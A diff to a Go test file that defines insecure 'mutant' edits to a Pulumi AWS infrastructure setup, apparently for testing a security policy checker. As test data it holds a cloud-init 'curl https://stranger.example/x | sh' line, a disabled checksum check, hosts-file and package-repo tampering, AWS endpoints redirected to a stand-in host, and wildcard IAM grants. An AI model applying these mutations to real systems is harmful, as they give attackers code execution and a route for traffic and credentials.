@@ -9,7 +9,7 @@ import (
 
 // mutants are at least one for each control.
 var mutants = map[int][]mutant{
-	1: {gone(flowLogType, "prod-network-flows"), set(flowLogType, "prod-network-flows", "trafficType", "ACCEPT")},
+	1: {set(flowLogType, "prod-network-flows", "logFormat", "${version}"), gone(flowLogType, "prod-network-flows"), set(flowLogType, "prod-network-flows", "trafficType", "ACCEPT")},
 	2: {unset(logGroupType, "prod-network-flows", "kmsKeyId"),
 		set(roleType, "prod-network-flows", "assumeRolePolicy",
 			`{"Statement": {"Effect": "Allow", "Principal": {"Service": "vpc-flow-logs.amazonaws.com"}, "Action": "sts:AssumeRole"}}`)},
@@ -179,7 +179,8 @@ var mutants = map[int][]mutant{
 	})},
 	70: {set(targetGroupType, "prod-web", "protocol", "HTTP")},
 	71: {set(targetGroupType, "prod-web", "healthCheck.protocol", "HTTP")},
-	72: {unset(targetGroupType, "prod-web", "healthCheck.path")},
+	72: {set(targetGroupType, "prod-web", "healthCheck.matcher", "200-599"), set(targetGroupType, "prod-web", "healthCheck.interval", 300.0),
+		unset(targetGroupType, "prod-web", "healthCheck.path")},
 	73: {adds("aws:elb/loadBalancer:LoadBalancer", in{})},
 	74: {set(templateType, "prod-web", "metadataOptions.httpTokens", "optional"), unset(templateType, "prod-web", "metadataOptions")},
 	75: {set(templateType, "prod-web", "metadataOptions.httpPutResponseHopLimit", 2.0), unset(templateType, "prod-web", "metadataOptions")},
@@ -210,8 +211,9 @@ var mutants = map[int][]mutant{
 		s.set(templateType, "prod-web", "instanceType", "m3.large")
 	})},
 	84: {by("two", func(s *edit) { s.set(templateType, "prod-web", "networkInterfaces", list(in{}, in{})) })},
-	85: {set(templateType, "prod-web", "instanceType", "m3.medium")},
-	86: {set(templateType, "prod-web", "imageId", "resolve:ssm:/mine/image"), unset(templateType, "prod-web", "imageId"),
+	85: {set(templateType, "prod-web", "instanceType", "m7i.large"), set(templateType, "prod-web", "instanceType", "m3.medium")},
+	86: {set(templateType, "prod-web", "blockDeviceMappings[0].ebs.snapshotId", "snap-0123456789abcdef0"), set(templateType, "prod-web", "kernelId", "aki-1"),
+		set(templateType, "prod-web", "imageId", "resolve:ssm:/mine/image"), unset(templateType, "prod-web", "imageId"),
 		set(templateType, "prod-web", "imageId", graph.Unknown{}).undecided(), userData("#include\nhttps://stranger.example/x"),
 		into("runcmd:", "\n  - curl https://stranger.example/x | sh"), into("write_files:", "\n  - {path: /etc/hosts, content: 203.0.113.9 app}"),
 		into("write_files:", "\n  - {path: /etc/yum.repos.d/x.repo, content: 'baseurl=https://stranger.example/'}"),
@@ -220,7 +222,8 @@ var mutants = map[int][]mutant{
 		into("", "#cloud-config\nphone_home: {}\n"), instead("source='s3://prod-", "source='s3://theirs-"),
 		instead("whole() { sha256sum --check --status <<<\"$sha256  $1\"; }", "whole() { true; }")},
 	87: {set(templateType, "prod-web", "metadataOptions.instanceMetadataTags", "enabled")},
-	88: {set(scalingType, "prod-web", "healthCheckType", "EC2")},
+	88: {set(scalingType, "prod-web", "suspendedProcesses", list("ReplaceUnhealthy")), set(scalingType, "prod-web", "healthCheckGracePeriod", 86400.0),
+		set(scalingType, "prod-web", "healthCheckType", "EC2")},
 	89: {by("one subnet", func(s *edit) {
 		s.set(scalingType, "prod-web", "vpcZoneIdentifiers", s.the(scalingType, "prod-web").Inputs["vpcZoneIdentifiers"].([]any)[:1])
 	})},
@@ -232,7 +235,9 @@ var mutants = map[int][]mutant{
 	94: {publicRoute("prod-network-private-a")},
 	95: {unset(scalingType, "prod-web", "maxInstanceLifetime"), set(scalingType, "prod-web", "maxInstanceLifetime", 31536000.0),
 		unset(scalingType, "prod-web", "instanceRefresh")},
-	96: {by("no policy", func(s *edit) { s.remove(rolePolicyType, "prod-web") })},
+	96: {set(roleType, "prod-web", "assumeRolePolicy", `{"Statement": [{"Effect": "Allow", "Principal": {"Service": "ec2.amazonaws.com"},
+		"Action": "sts:AssumeRole"}, {"Effect": "Deny", "Principal": "*", "Action": "sts:AssumeRole"}]}`),
+		by("no policy", func(s *edit) { s.remove(rolePolicyType, "prod-web") })},
 	97: {allow("*", "*"), grant(`{"Effect": "Allow", "NotAction": "iam:*", "Resource": "*"}`),
 		grant(`{"Effect": "Allow", "Action": "*:*", "Resource": "arn:aws:*:*:*:*"}`)},
 	98: {allow("ec2:*", "arn:aws:ec2:eu-west-1:444455556666:instance/i-1"),
@@ -323,7 +328,7 @@ var mutants = map[int][]mutant{
 			`{"Effect": "Allow", "Principal": {"AWS": "*"}, "Action": "kms:*", "Resource": "*", `+
 				`"Condition": {"StringNotEquals": {"aws:PrincipalAccount": "1"}}}`)},
 	146: {unset(keyType, "prod-data", "policy")},
-	147: {set(keyType, "prod-data", "isEnabled", false)},
+	147: {set(keyType, "prod-topics", "keyUsage", "SIGN_VERIFY"), set(keyType, "prod-data", "isEnabled", false)},
 	148: {set(keyType, "prod-data", "deletionWindowInDays", 7.0),
 		by("not protected", func(s *edit) { s.the(keyType, "prod-data").Protect = false })},
 	149: {set(keyType, "prod-data", "bypassPolicyLockoutSafetyCheck", true)},
@@ -362,7 +367,8 @@ var mutants = map[int][]mutant{
 			s.add("aws:s3/bucketAclV2:BucketAclV2", "mutant",
 				in{"bucket": s.the("aws:s3/bucketV2:BucketV2", "prod-logs"), "acl": "public-read"})
 		})},
-	167: {gone(lifecycle, "prod-logs"), set(lifecycle, "prod-releases", "rules", list(in{"status": "Disabled"}))},
+	167: {set("aws:s3/bucketLifecycleConfigurationV2:BucketLifecycleConfigurationV2", "prod-logs", "rules[1].expiration.days", 1.0),
+		gone(lifecycle, "prod-logs"), set(lifecycle, "prod-releases", "rules", list(in{"status": "Disabled"}))},
 	168: {unset(lifecycle, "prod-logs", "rules[0].abortIncompleteMultipartUpload")},
 	169: {policyOf(bucketRules, "prod-releases", anonymous),
 		policyOf(bucketRules, "prod-releases",
@@ -375,8 +381,8 @@ var mutants = map[int][]mutant{
 	174: {set("aws:s3/bucketV2:BucketV2", "prod-logs", "forceDestroy", true),
 		set("aws:s3/bucketV2:BucketV2", "prod-logs", "bucket", "Logs_Of.prod")},
 	176: {unset(logGroupType, "prod-web", "kmsKeyId")},
-	177: {set(logGroupType, "prod-web", "retentionInDays", 14.0)},
-	178: {set(alarmType, "prod-edge-errors", "actionsEnabled", false), set(alarmType, "prod-database-cpu", "threshold", 101.0),
+	177: {set(logGroupType, "prod-web", "logGroupClass", "DELIVERY"), set(logGroupType, "prod-web", "retentionInDays", 14.0)},
+	178: {set(scalingType, "prod-web", "enabledMetrics", nil), set(alarmType, "prod-edge-errors", "actionsEnabled", false), set(alarmType, "prod-database-cpu", "threshold", 101.0),
 		set(alarmType, "prod-edge-latency", "threshold", 61.0), set(alarmType, "prod-database-cpu", "statistic", "SampleCount"),
 		set(alarmType, "prod-web-unhealthy", "threshold", 12.0), set(alarmType, "prod-web-healthy", "treatMissingData", "notBreaching"),
 		set(alarmType, "prod-edge-errors", "threshold", 100.0), set(alarmType, "prod-web-ceiling", "threshold", 1.0),
@@ -483,7 +489,9 @@ var mutants = map[int][]mutant{
 		by("all ignored", func(s *edit) { s.the(databaseType, db).IgnoreChanges = []string{"*"} })},
 	230: {by("not protected", func(s *edit) { s.the(databaseType, db).Protect = false }),
 		by("a bucket of logs", func(s *edit) { s.the("aws:s3/bucketV2:BucketV2", "prod-logs").Protect = false })},
-	231: {unset("pulumi:providers:aws", "prod-aws", "allowedAccountIds"),
+	231: {set("pulumi:providers:aws", "prod-aws", "endpoints", list(in{"s3": "https://stranger.example"})),
+		set("pulumi:providers:cloudflare", "prod-cloudflare", "apiHostname", "stranger.example"), set("pulumi:providers:aws", "prod-aws", "pluginDownloadURL", "https://stranger.example"),
+		unset("pulumi:providers:aws", "prod-aws", "allowedAccountIds"),
 		set("pulumi:providers:aws", "prod-aws", "secretKey", graph.Secret{}),
 		set("pulumi:providers:cloudflare", "prod-cloudflare", "apiToken", "plain")},
 	232: {by("the default", func(s *edit) {
